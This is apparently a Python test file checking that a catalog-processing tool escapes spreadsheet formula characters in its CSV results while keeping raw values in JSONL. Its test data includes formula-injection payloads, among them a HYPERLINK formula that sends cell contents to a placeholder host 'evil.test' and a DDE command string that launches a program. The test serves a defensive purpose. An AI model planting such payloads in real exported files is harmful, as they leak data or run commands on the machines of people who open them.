"""What a run writes for its caller: results-file cells a spreadsheet never runs as formulas."""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

from aigenstudio._catalog.process import process_catalog

from .conftest import no_sleep


def run(client: Any, images: Any, journal: Path | None, **extra: Any) -> Any:
    extra.setdefault("sleep", no_sleep)
    return process_catalog(
        client, images, namespace="spring", journal=journal, operation="marketplace_clean", **extra
    )


def test_results_csv_cells_are_never_formulas(client: Any, tmp_path: Path) -> None:
    hostile = ['=HYPERLINK("https://evil.test/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx"]
    images = [{"source_url": f"https://img.test/{n}.jpg", "external_id": e} for n, e in enumerate(hostile)]
    images.append({"source_url": "https://img.test/ok.jpg", "external_id": "plain-1"})
    run(client, images, None, results=tmp_path / "r.csv")
    run(client, images, None, results=tmp_path / "r.jsonl")
    with (tmp_path / "r.csv").open(newline="") as handle:
        cells = [r["external_id"] for r in csv.DictReader(handle)]
    assert cells == [*("'" + e for e in hostile), "plain-1"]
    lines = (tmp_path / "r.jsonl").read_text().splitlines()
    assert [json.loads(line)["external_id"] for line in lines] == [*hostile, "plain-1"]
